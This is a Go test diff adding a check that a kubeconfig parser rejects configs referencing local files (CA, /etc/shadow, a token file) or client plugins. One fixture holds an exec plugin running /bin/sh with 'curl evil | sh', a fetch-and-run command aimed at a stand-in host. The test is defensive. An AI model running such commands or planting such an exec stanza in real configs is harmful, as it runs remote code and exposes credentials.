@@ -457,3 +457,36 @@ func TestSecret(t *testing.T) {
 		})
 	}
 }
+
+// TestParseRefusesWhatPointsOutside checks that Parse opens no file and
+// accepts no plugin a client would run.
+func TestParseRefusesWhatPointsOutside(t *testing.T) {
+	t.Parallel()
+	base := `apiVersion: v1
+kind: Config
+current-context: c
+contexts:
+- name: c
+  context: {cluster: c, user: u}
+clusters:
+- name: c
+  cluster:
+    server: https://example.com
+%s
+users:
+- name: u
+  user:
+%s
+`
+	inlineCA := "    certificate-authority-data: " + base64.StdEncoding.EncodeToString([]byte("ca"))
+	for name, tc := range map[string][2]string{
+		"CA file":          {"    certificate-authority: /etc/kubernetes/pki/ca.crt", "    token: x"},
+		"client cert file": {inlineCA, "    client-certificate: /etc/shadow\n    client-key: /etc/shadow"},
+		"token file":       {inlineCA, "    tokenFile: /var/run/secrets/token"},
+		"exec plugin":      {inlineCA, "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']"},
+		"auth provider":    {inlineCA, "    auth-provider:\n      name: oidc"},
+	} {
+		_, err := kubeconfig.Parse([]byte(fmt.Sprintf(base, tc[0], tc[1])))
+		require.ErrorIs(t, err, kubeconfig.ErrMalformed, name)
+	}
+}
